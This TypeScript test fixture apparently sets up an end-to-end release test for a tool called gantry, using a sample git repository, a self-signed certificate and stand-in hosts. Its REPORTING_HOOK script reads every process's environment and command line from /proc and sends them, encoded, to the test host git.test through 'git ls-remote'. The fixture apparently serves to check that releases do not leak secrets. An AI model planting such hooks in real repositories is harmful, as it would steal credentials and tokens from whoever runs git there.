import { execFileSync } from "node:child_process";
import {
  chmodSync,
  cpSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { GitRepo } from "../../fixtures/release/gitRepo.js";
import { SAMPLE_APP } from "../engine.js";

/** Host name under which the tests bind the git server; the origin URL of every work repository uses it. */
export const GIT_HOST = "git.test";
/** Host name of the GitHub API stand-in (and of its webhooks). */
export const GITHUB_API_HOST = "github.test";
export const REPOSITORY = "acme/sample-app";

/** A self-signed certificate for both test hosts, which the release trusts through --ca-certificate. */
export interface TestCertificate {
  key: string;
  cert: string;
  /** Path of `cert` on disk, for dag.host().file(). */
  certPath: string;
}

/** Generates the test servers' certificate (openssl), valid a day for GIT_HOST and GITHUB_API_HOST; removed with `dir`. */
export function testCertificate(dir: string): TestCertificate {
  const keyPath = join(dir, "tls-key.pem");
  const certPath = join(dir, "tls-cert.pem");
  execFileSync(
    "openssl",
    [
      "req",
      "-x509",
      "-newkey",
      "ec",
      "-pkeyopt",
      "ec_paramgen_curve:prime256v1",
      "-nodes",
      "-days",
      "1",
      "-subj",
      "/CN=gantry-e2e",
      "-addext",
      `subjectAltName=DNS:${GIT_HOST},DNS:${GITHUB_API_HOST}`,
      "-keyout",
      keyPath,
      "-out",
      certPath,
    ],
    { stdio: "ignore" },
  );
  return {
    key: readFileSync(keyPath, "utf8"),
    cert: readFileSync(certPath, "utf8"),
    certPath,
  };
}

/**
 * A git hook that, inside the release's containers only (work tree at /src), reports to the git server everything a
 * hook can see: its environment and every process's command line and environment. Sent as the gzip+base64url path of
 * a `git ls-remote`, the one client the git image is sure to have; the git server decodes it into `hookReports`.
 */
const REPORTING_HOOK = `#!/bin/sh
case "$PWD" in /src*) ;; *) exit 0 ;; esac
cat >/dev/null
{
  echo "hook $(basename "$0") $*"
  env
  for proc in /proc/[0-9]*; do
    echo "process \${proc#/proc/}: $(tr '\\000' ' ' < "$proc/cmdline" 2>/dev/null)"
    echo "environment: $(tr '\\000' ' ' < "$proc/environ" 2>/dev/null)"
  done
} | gzip -c | base64 | tr -d '=\\n' | tr '+/' '-_' > /tmp/gantry-hook-report
git ls-remote "https://${GIT_HOST}/_hooks/$(cat /tmp/gantry-hook-report)" >/dev/null 2>&1 || true
exit 0
`;

/** Hooks that run during the release's git commands: around the push, the fetch of a previous run's tag, commits and checkouts. */
export const REPORTING_HOOKS = [
  "reference-transaction",
  "pre-push",
  "post-commit",
  "post-checkout",
];

/** The sample app as a git repository released as v1.0.0, with a real bare repository on disk as its origin. */
export class ReleaseFixture {
  readonly root = mkdtempSync(join(tmpdir(), "gantry-release-e2e-"));
  /** Directory the git server serves; the origin is `<servedRoot>/acme/sample-app.git`. */
  readonly servedRoot = join(this.root, "served");
  readonly origin = join(this.servedRoot, `${REPOSITORY}.git`);
  readonly work = new GitRepo();

  constructor() {
    execFileSync("git", [
      "init",
      "--quiet",
      "--bare",
      "--initial-branch=main",
      this.origin,
    ]);
    cpSync(SAMPLE_APP, this.work.dir, {
      recursive: true,
      filter: (path) => !/\/(node_modules|coverage|dist)$/.test(path),
    });
    this.work.commit("feat: sample app");
    this.work.tag("v1.0.0");
    this.work.git(
      "remote",
      "add",
      "origin",
      `https://${GIT_HOST}/${REPOSITORY}.git`,
    );
    this.work.git("push", "--quiet", this.origin, "main", "--tags");
  }

  /** Installs REPORTING_HOOKS in the work repository (they do nothing on this host). */
  installReportingHooks(): void {
    for (const hook of REPORTING_HOOKS) {
      const path = join(this.work.dir, ".git", "hooks", hook);
      writeFileSync(path, REPORTING_HOOK);
      chmodSync(path, 0o755);
    }
  }

  /** `git <args>` in the bare origin. */
  originGit(...args: string[]): string {
    return execFileSync("git", args, {
      cwd: this.origin,
      encoding: "utf8",
    }).trim();
  }

  /** Every ref of the origin with its hash, to compare before and after a run. */
  originRefs(): string {
    return this.originGit("for-each-ref", "--format=%(objectname) %(refname)");
  }

  /** Brings the origin's main (with the release commit) and tags into the work repository, as a later checkout would have them. */
  pullFromOrigin(): void {
    this.work.git("fetch", "--quiet", "--tags", this.origin, "main");
    this.work.git("merge", "--quiet", "--ff-only", "FETCH_HEAD");
  }

  dispose(): void {
    this.work.dispose();
    rmSync(this.root, { recursive: true, force: true });
  }
}
